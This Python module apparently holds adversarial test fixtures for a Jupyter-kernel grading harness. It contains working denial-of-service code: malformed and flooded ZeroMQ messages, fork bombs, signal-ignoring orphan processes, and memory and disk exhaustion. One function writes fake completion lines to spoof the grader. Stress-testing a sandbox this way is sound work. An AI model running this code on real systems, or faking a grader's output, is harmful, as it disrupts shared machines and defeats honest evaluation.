"""Nuisances by someone who has read all the code: they spoil wires, messages and the system's resources.

See `outsiders` for how an attack is written.
"""

# ruff: noqa: F821, F841, SIM105


def nests_a_message_without_end():
    kernel = get_ipython().kernel
    deep = b'{"kind":"list","items":[' * 50_000 + b"]}" * 50_000
    header = kernel.session.msg_header("display_data")
    frames = [kernel.session.pack(part) for part in (header, kernel.get_parent("shell"), {})] + [deep]
    kernel.iopub_socket.send_multipart([b"<IDS|MSG>", kernel.session.sign(frames), *frames])
    import time

    time.sleep(0.2)


def signs_rubbish():
    import time

    kernel = get_ipython().kernel
    parts = (
        b"\xff\xfe\x00",
        b"NaN",
        b'{"msg_type": 5, "msg_id": [], "msg_id": {}}',
        b'{"msg_id": 1e999}',
        b"[" * 10**5,
    )
    for part in parts:
        frames = [part, kernel.session.pack(kernel.get_parent("shell")), part, b"{}"]
        kernel.iopub_socket.send_multipart([b"<IDS|MSG>", kernel.session.sign(frames), *frames])
        time.sleep(0.05)


def signs_nothing():
    kernel = get_ipython().kernel
    for frames in (
        [],
        [b""],
        [b"<IDS|MSG>"],
        [b"<IDS|MSG>", b"no signature", b"{}", b"{}", b"{}", b"{}"],
        [b"x"] * 999,
    ):
        kernel.iopub_socket.send_multipart(frames or [b""])
    import time

    time.sleep(0.2)


def sends_a_message_of_a_million_parts_again_and_again():
    import os
    import socket

    piece = (b"\x01\x01x") * 1_000_000 + b"\x00\x01x"  # parts of one byte with more to come, as zmq writes them
    for name in os.listdir("/proc/self/fd"):
        try:
            wire = socket.socket(fileno=os.dup(int(name)))
            if str(wire.getsockname()).endswith("-2") and not wire.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
                wire.settimeout(None)
                while True:
                    wire.sendall(piece)
        except OSError:
            pass


def sends_a_message_of_small_parts_without_end():
    import os
    import socket

    piece = (b"\x01\x01x") * 50_000
    for name in os.listdir("/proc/self/fd"):
        try:
            wire = socket.socket(fileno=os.dup(int(name)))
            if str(wire.getsockname()).endswith("-2") and not wire.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
                wire.settimeout(None)
                while True:
                    wire.sendall(piece)
        except OSError:
            pass


def sends_a_message_of_large_parts_without_end():
    import os
    import socket
    import struct

    piece = struct.pack(">BQ", 3, 1 << 20) + bytes(1 << 20)
    for name in os.listdir("/proc/self/fd"):
        try:
            wire = socket.socket(fileno=os.dup(int(name)))
            if str(wire.getsockname()).endswith("-2") and not wire.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
                wire.settimeout(None)
                while True:
                    wire.sendall(piece)
        except OSError:
            pass


def replies_before_it_is_done():
    import time

    kernel = get_ipython().kernel
    parent = kernel.get_parent("shell")
    content = {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
    for _ in range(3):
        kernel.session.send(kernel.iopub_socket, "status", {"execution_state": "idle"}, parent=parent)
        kernel.session.send(kernel.iopub_socket, "execute_reply", content, parent=parent)
    time.sleep(60)


def answers_after_the_end():
    import atexit
    import threading
    import time

    kernel = get_ipython().kernel

    def go_on():
        while True:
            try:
                parent = kernel.get_parent("shell")
                kernel.session.send(kernel.iopub_socket, "status", {"execution_state": "busy"}, parent=parent)
                kernel.session.send(kernel.iopub_socket, "error", {"ename": "<b>", "evalue": "x"}, parent=parent)
            except Exception:
                pass
            time.sleep(0.01)

    threading.Thread(target=go_on, daemon=True).start()
    atexit.register(go_on)


def closes_every_descriptor():
    import os

    os.closerange(3, 4096)


def writes_rubbish_on_every_wire():
    import os

    for name in os.listdir("/proc/self/fd"):
        if int(name) > 2:
            try:
                os.set_blocking(int(name), False)
                os.write(int(name), b"\x00\xff" * 10_000)
            except OSError:
                pass


def breaks_the_wire_that_interrupts_come_by():
    import os
    import socket

    for name in os.listdir("/proc/self/fd"):
        try:
            wire = socket.socket(fileno=os.dup(int(name)))
            if str(wire.getsockname()).endswith("-4") and not wire.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
                wire.send(b"\x02" + b"\xff" * 8)  # a message larger than all memory: the other end hangs up for good
        except OSError:
            pass
    while True:
        pass


def breaks_the_wire_that_orders_come_by():
    import os
    import socket

    for name in os.listdir("/proc/self/fd"):
        try:
            wire = socket.socket(fileno=os.dup(int(name)))
            if str(wire.getsockname()).endswith("-1") and not wire.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
                wire.send(b"\x02" + b"\xff" * 8)
        except OSError:
            pass


def speaks_the_graders_own_language():
    import os

    lines = b'{"done": true}\n{"ready": true}\n{"index": 2, "status": "ran", "messages": [], "seconds": 0}\n'
    for name in os.listdir("/proc/self/fd"):
        try:
            os.set_blocking(int(name), False)
            os.write(int(name), lines)
        except OSError:
            pass


def makes_its_process_hard_to_end():
    import ctypes
    import os
    import signal
    import time

    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    libc = ctypes.CDLL(None)
    for _ in range(20):
        if os.fork() == 0:
            kept = bytearray(40 << 20)
            libc.prctl(1, 0)  # not to die with its parent
            while True:
                time.sleep(100)
    while True:
        try:
            time.sleep(100)
        except BaseException:
            pass


def makes_its_scratch_slow_to_clear():
    import os

    for half in range(2):
        if os.fork() == 0:
            for number in range(10**7):
                try:
                    os.mknod(f"/scratch/{half}-{number}")
                except OSError:
                    break
            os._exit(0)
    while True:
        pass


def takes_every_processor_from_its_neighbours():
    import os

    for _ in range(50):
        try:
            if os.fork() == 0:
                os.setsid()
                while True:
                    pass
        except OSError:
            break
    while True:
        pass


def fills_the_systems_memory_through_sockets():
    import socket

    kept = []
    while True:
        try:
            one, other = socket.socketpair()
            one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 22)
            one.setblocking(False)
            kept += [one, other]
            while True:
                one.send(bytes(1 << 16))
        except OSError as error:
            if error.errno != 11:
                break
    while True:
        pass


def fails_in_the_replay_only():
    import os

    def mean_of(image):
        os._exit(1)


NUISANCES = (
    nests_a_message_without_end,
    signs_rubbish,
    signs_nothing,
    sends_a_message_of_a_million_parts_again_and_again,
    sends_a_message_of_small_parts_without_end,
    sends_a_message_of_large_parts_without_end,
    replies_before_it_is_done,
    answers_after_the_end,
    closes_every_descriptor,
    writes_rubbish_on_every_wire,
    breaks_the_wire_that_interrupts_come_by,
    breaks_the_wire_that_orders_come_by,
    speaks_the_graders_own_language,
    makes_its_process_hard_to_end,
    makes_its_scratch_slow_to_clear,
    takes_every_processor_from_its_neighbours,
    fills_the_systems_memory_through_sockets,
    fails_in_the_replay_only,
)
